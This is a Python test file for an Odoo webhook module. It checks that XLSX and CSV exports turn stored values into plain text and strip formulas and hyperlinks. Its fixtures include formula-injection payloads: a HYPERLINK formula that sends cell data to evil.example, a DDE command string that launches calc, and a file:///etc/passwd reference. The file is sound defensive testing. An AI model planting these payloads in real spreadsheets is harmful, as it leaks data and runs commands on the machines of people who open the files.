import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

from ..delivery.sender import Answer
from .common import WebhookCase

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@tagged("post_install", "-at_install")
class TestExport(HttpCase, WebhookCase):
    """What endpoints answer is text in files, too."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.user = new_test_user(
            cls.env,
            "webhooks_exports",
            "nshift_webhooks.group_webhook_manager,base.group_allow_export",
            password="webhooks_exports",
        )

    def export(self, model, fields, kind="xlsx", groupby=()):
        """Return the file that a user gets, as the cells of its rows."""
        self.env.flush_all()
        self.authenticate("webhooks_exports", "webhooks_exports")
        data = {
            "model": model,
            "fields": [{"name": n, "label": n, "type": "char"} for n in fields],
            "ids": False,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def cells(self, *args, **kwargs):
        book = load_workbook(io.BytesIO(self.export(*args, **kwargs)))
        return [cell for row in book.active.iter_rows() for cell in row]

    def test_formulas_are_text(self):
        webhook = self.make_webhook(name="=1+1")
        event = self.make_event(webhook, res_name="=cmd|'/c calc'!A0")
        for text in (
            FORMULA,
            "{=1+1}",
            "+1",
            "-1+1",
            "@SUM(1)",
            "external:c:\\x",
            "file:///etc/passwd",
        ):
            event._record({event.id: Answer(400, text, failure="status", error=text)})
        for model, fields in (
            ("nshift.webhook.attempt", ["response_body", "error"]),
            (
                "nshift.webhook.event",
                ["webhook_id", "res_name", "error", "attempt_ids/response_body"],
            ),
            ("nshift.webhook", ["name", "event_ids/res_name", "audit_ids/new"]),
            ("nshift.webhook.audit", ["webhook_name", "new"]),
        ):
            with self.subTest(model=model):
                cells = self.cells(model, fields)
                self.assertTrue(cells)
                self.assertNotIn("f", {cell.data_type for cell in cells})
                self.assertFalse([cell for cell in cells if cell.hyperlink])
        shown = [c.value for c in self.cells("nshift.webhook.attempt", ["error"])]
        self.assertIn(f"'{FORMULA}", shown)

    def test_groups_are_text(self):
        webhook = self.make_webhook(name="=1+1")
        event = self.make_event(webhook, res_name="=2+2")
        event._record({event.id: Answer(400, "", failure="status", error="=3+3")})
        for groupby in (["webhook_id"], ["res_name"], ["error"], ["error", "res_name"]):
            with self.subTest(groupby=groupby):
                cells = self.cells(
                    "nshift.webhook.event", ["message_id", "error"], groupby=groupby
                )
                self.assertNotIn("f", {cell.data_type for cell in cells})
        labels = self.env["nshift.webhook.event"].formatted_read_group(
            [("id", "=", event.id)], ["error"], ["__count"]
        )
        self.assertEqual(labels[0]["error"], "=3+3", "on the screen it is as it is")

    def test_csv(self):
        event = self.make_event()
        event._record({event.id: Answer(400, FORMULA, failure="status", error="@x")})
        text = self.export(
            "nshift.webhook.attempt", ["response_body", "error"], kind="csv"
        ).decode()
        self.assertIn("\"'=HYPERLINK", text)
        self.assertIn('"\'@x"', text)

    def test_own_fields(self):
        """What delivery keeps for itself is nothing to group or export by."""
        events = self.env["nshift.webhook.event"]
        found = events.fields_get(attributes=["groupable", "exportable", "string"])
        self.assertFalse(found["is_bulk"]["groupable"])
        self.assertFalse(found["load_id"]["exportable"])
        self.assertTrue(found["webhook_id"]["groupable"])
        self.assertTrue(found["res_name"]["exportable"])
        self.assertNotIn(
            "groupable", events.fields_get(["is_bulk"], ["string"])["is_bulk"]
        )
        self.assertTrue(events._own_fields <= events._fields.keys())
